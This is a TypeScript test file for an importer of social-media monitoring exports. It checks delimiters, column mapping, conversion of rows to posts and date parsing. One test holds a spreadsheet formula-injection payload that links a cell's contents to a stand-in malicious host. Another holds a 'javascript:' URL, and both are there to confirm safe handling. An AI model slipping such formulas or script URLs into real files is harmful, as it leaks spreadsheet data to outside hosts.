import { describe, expect, test } from 'vitest';
import { guessMapping, importReadingSchema, parseTable, toReceivedPost, type RowPost, type TableRow } from './index.ts';
import { readInstant } from './instant.read.ts';

const reading = importReadingSchema.parse({});

async function rowsOf(text: string, format: 'csv' | 'jsonl' = 'csv', chunk = 7) {
  const chunks = Array.from({ length: Math.ceil(text.length / chunk) }, (_, n) =>
    text.slice(n * chunk, (n + 1) * chunk),
  );
  const table = await parseTable(chunks, { format });
  const rows: TableRow[] = [];
  for await (const row of table.rows) rows.push(row);
  return { ...table, rows };
}

async function postsOf(text: string, format: 'csv' | 'jsonl' = 'csv'): Promise<RowPost[]> {
  const { header, rows } = await rowsOf(text, format);
  const mapping = guessMapping(header);
  return rows.map((row) => toReceivedPost(row, mapping, reading));
}

describe('a table', () => {
  test.each([
    [',', 'date,texte\n24/11/2026,Bonjour\n'],
    [';', '\uFEFFdate;texte\r\n24/11/2026;Bonjour, vous\r\n'],
    ['\t', 'date\ttexte\n24/11/2026\tBonjour; vous\n'],
    [';', 'sep=;\r\ndate;texte\r\n24/11/2026;Bonjour\r\n'],
  ])('recognises its delimiter %j', async (delimiter, text) => {
    const table = await rowsOf(text);
    expect(table.delimiter).toBe(delimiter);
    expect(table.header).toEqual(['date', 'texte']);
    expect(table.rows).toMatchObject([{ ok: true, cells: { date: '24/11/2026' } }]);
  });

  test('numbers its lines as the file does, whatever the cells hold', async () => {
    const text = 'texte;auteur\n"sur\ntrois\nlignes";Ada\n\nsimple;Bea\n"dit ""oui""";Cléo';
    const { rows } = await rowsOf(text);
    expect(rows).toEqual([
      { ok: true, line: 2, cells: { texte: 'sur\ntrois\nlignes', auteur: 'Ada' } },
      { ok: true, line: 6, cells: { texte: 'simple', auteur: 'Bea' } },
      { ok: true, line: 7, cells: { texte: 'dit "oui"', auteur: 'Cléo' } },
    ]);
  });

  test('finds its header below the summary of an export', async () => {
    const text =
      'Report:,Mentions\nBrand:,Région\nFrom:,Tue Nov 24\n\nDate,Url,Full Text,Author\n2026-11-24 08:12,https://a.fr/1,Bonjour,ada\n';
    const table = await rowsOf(text);
    expect(table.header).toEqual(['Date', 'Url', 'Full Text', 'Author']);
    expect(table.rows).toMatchObject([{ ok: true, line: 6 }]);
  });

  test('tells a line with too many cells and reads the next', async () => {
    const { rows } = await rowsOf('date,texte\n24/11/2026,un, deux\n25/11/2026,trois\n');
    expect(rows).toMatchObject([
      { ok: false, line: 2, message: { fr: expect.stringContaining('3 cellules') as string } },
      { ok: true, line: 3 },
    ]);
  });

  test('an open quote ends with a clear line, not with an exception', async () => {
    const { rows } = await rowsOf('date,texte\n24/11/2026,bien\n25/11/2026,"jamais\nrefermé\n');
    expect(rows[0]).toMatchObject({ ok: true });
    expect(rows.at(-1)).toMatchObject({
      ok: false,
      line: 3,
      message: { fr: expect.stringContaining('guillemet') as string },
    });
  });

  test('a quote open over megabytes stops the reading, not the program', async () => {
    const endless = `date,texte\n24/11/2026,bien\n25/11/2026,"${'x'.repeat(3_000_000)}`;
    const { rows } = await rowsOf(endless, 'csv', 65_536);
    expect(rows).toMatchObject([
      { ok: true, line: 2 },
      { ok: false, line: 3 },
    ]);
  });

  test('of JSON Lines has nested columns, and broken lines told by their number', async () => {
    const { header, rows } = await rowsOf(
      '{"text":"a","author":{"name":"Ada"},"tags":["x","y"]}\n\n{oups\n[1]\n{"text":"b"}\r\n',
      'jsonl',
    );
    expect(header).toEqual(['text', 'author.name', 'tags']);
    expect(rows).toMatchObject([
      { ok: true, line: 1, cells: { text: 'a', 'author.name': 'Ada', tags: 'x, y' } },
      { ok: false, line: 3 },
      { ok: false, line: 4 },
      { ok: true, line: 5, cells: { text: 'b' } },
    ]);
  });

  test('an empty file has no rows', async () => {
    expect(await rowsOf('')).toMatchObject({ header: [], rows: [] });
    expect(await rowsOf('', 'jsonl')).toMatchObject({ header: [], rows: [] });
  });
});

describe('the columns of an export are recognised', () => {
  test.each([
    [
      'Talkwalker',
      'url,indexed,published,title,content,content_snippet,lang,source_type,extra_author_attributes.name,extra_author_attributes.short_name,extra_author_attributes.url,reach,engagement',
      {
        text: 'content',
        title: 'title',
        url: 'url',
        postedAt: 'published',
        lang: 'lang',
        reach: 'reach',
        authorHandle: 'extra_author_attributes.short_name',
        authorName: 'extra_author_attributes.name',
        authorUrl: 'extra_author_attributes.url',
      },
    ],
    [
      'Meltwater',
      'Date,Time,Document ID,URL,Headline,Opening Text,Hit Sentence,Source,Influencer,Language,Reach,Twitter Followers',
      {
        text: 'Hit Sentence',
        title: 'Headline',
        url: 'URL',
        id: 'Document ID',
        postedAt: 'Date',
        time: 'Time',
        authorHandle: 'Influencer',
        lang: 'Language',
        reach: 'Reach',
        followers: 'Twitter Followers',
      },
    ],
    [
      'Brandwatch',
      'Query Id,Date,Title,Snippet,Url,Domain,Page Type,Language,Author,Full Name,X Followers,Full Text,Hashtags,Mentioned Authors,Expanded URLs,Reach (new),Resource Id',
      {
        text: 'Full Text',
        title: 'Title',
        url: 'Url',
        id: 'Resource Id',
        postedAt: 'Date',
        authorHandle: 'Author',
        authorName: 'Full Name',
        followers: 'X Followers',
        reach: 'Reach (new)',
        lang: 'Language',
        tags: 'Hashtags',
        mentions: 'Mentioned Authors',
        links: 'Expanded URLs',
      },
    ],
    [
      'in French',
      'Date de publication;Auteur;Nombre d’abonnés;Titre;Contenu;Lien;Langue;Portée;Hashtags',
      {
        postedAt: 'Date de publication',
        authorHandle: 'Auteur',
        followers: 'Nombre d’abonnés',
        title: 'Titre',
        text: 'Contenu',
        url: 'Lien',
        lang: 'Langue',
        reach: 'Portée',
        tags: 'Hashtags',
      },
    ],
  ])('%s', (_, header, expected) => {
    expect(guessMapping(header.split(/[,;]/))).toEqual(expected);
  });

  test('a header in no language known leaves everything to the person', () => {
    expect(guessMapping(['a', 'b', ''])).toEqual({});
  });
});

describe('a line becomes a post', () => {
  test('with what each cell says', async () => {
    const [row] = await postsOf(
      'Date;Heure;Auteur;Abonnés;Texte;URL;Portée\n24/11/2026;8 h 12;@ada;"1 234";Le #TER encore, @region https://a.fr/x;https://x.com/ada/1;12,5 k\n',
    );
    expect(row).toEqual({
      ok: true,
      line: 2,
      post: {
        network: 'import',
        originId: 'https://x.com/ada/1',
        url: 'https://x.com/ada/1',
        text: 'Le #TER encore, @region https://a.fr/x',
        postedAt: '2026-11-24T07:12:00.000Z',
        author: { handle: 'ada', followers: 1234 },
        tags: ['TER'],
        mentions: ['region'],
        links: ['https://a.fr/x'],
        media: [],
        reach: 12_500,
      },
    });
  });

  test('the same line twice is the same post, without any id', async () => {
    const text = 'texte,auteur\nBonjour,Ada\nBonjour,Ada\nBonjour,Bea\n';
    const ids = (await postsOf(text)).map((row) => row.ok && row.post.originId);
    expect(ids[0]).toBe(ids[1]);
    expect(ids[2]).not.toBe(ids[0]);
  });

  test('a formula is text like any other', async () => {
    const formula = '=HYPERLINK("http://mal.example/?"&A1;"clic")';
    const [row] = await postsOf(`texte\n"${formula.replaceAll('"', '""')}"\n`);
    expect(row?.ok && row.post.text).toBe(formula);
  });

  test.each([
    ['texte', 'date,texte,url\n24/11/2026,,https://a.fr\n', 'vide'],
    ['date', 'date,texte,url\n32/11/2026,Bonjour,https://a.fr\n', '32/11/2026'],
    ['url', 'date,texte,url\n24/11/2026,Bonjour,javascript:alert(1)\n', 'javascript'],
  ])('or an error that names the line and the column %s', async (column, text, said) => {
    const [row] = await postsOf(text);
    expect(row).toMatchObject({ ok: false, line: 2, column, message: { fr: expect.stringContaining(said) as string } });
  });
});

describe('a date', () => {
  test.each([
    ['2026-11-24T08:12:30Z', '2026-11-24T08:12:30.000Z'],
    ['2026-11-24T08:12:30+01:00', '2026-11-24T07:12:30.000Z'],
    ['2026-11-24T08:12:30.123456+0100', '2026-11-24T07:12:30.000Z'],
    ['2026-11-24 08:12', '2026-11-24T07:12:00.000Z'],
    ['2026-11-24', '2026-11-23T23:00:00.000Z'],
    ['24/11/2026 08:12:05', '2026-11-24T07:12:05.000Z'],
    ['24/11/26', '2026-11-23T23:00:00.000Z'],
    ['24.11.2026 8h12', '2026-11-24T07:12:00.000Z'],
    ['mardi 24 novembre 2026 à 8 h 12', '2026-11-24T07:12:00.000Z'],
    ['24 nov. 2026, 08:12', '2026-11-24T07:12:00.000Z'],
    ['1er août 2026 à 8h', '2026-08-01T06:00:00.000Z'],
    ['14 févr. 2026', '2026-02-13T23:00:00.000Z'],
    ['24-Nov-26 08:12 PM', '2026-11-24T19:12:00.000Z'],
    ['24-Nov-2026 12:05 AM', '2026-11-23T23:05:00.000Z'],
    ['Nov 24, 2026 8:12 AM', '2026-11-24T07:12:00.000Z'],
    ['11/24/2026 8:12', '2026-11-24T07:12:00.000Z'],
    ['1795504320', '2026-11-24T07:12:00.000Z'],
    ['1795504320000', '2026-11-24T07:12:00.000Z'],
    ['46350.341666', '2026-11-24T07:12:00.000Z'],
  ])('%s is %s', (written, instant) => {
    expect(readInstant(written, reading)).toBe(instant);
  });

  test('a time that clocks skip or show twice is still one instant', () => {
    expect(readInstant('29/03/2026 02:30', reading)).toBe('2026-03-29T01:30:00.000Z');
    expect(readInstant('25/10/2026 02:30', reading)).toBe('2026-10-25T00:30:00.000Z');
  });

  test('03/04 is in March for those who say so', () => {
    expect(readInstant('03/04/2026', { timeZone: 'UTC', dateOrder: 'month-day' })).toBe('2026-03-04T00:00:00.000Z');
    expect(readInstant('03/04/2026', { timeZone: 'UTC', dateOrder: 'day-month' })).toBe('2026-04-03T00:00:00.000Z');
  });

  test.each(['hier', '', '31/02/2026', '2026-13-01', '24/11/2026 25:00', '12', '2026'])('%j is none', (written) => {
    expect(readInstant(written, reading)).toBeUndefined();
  });
});
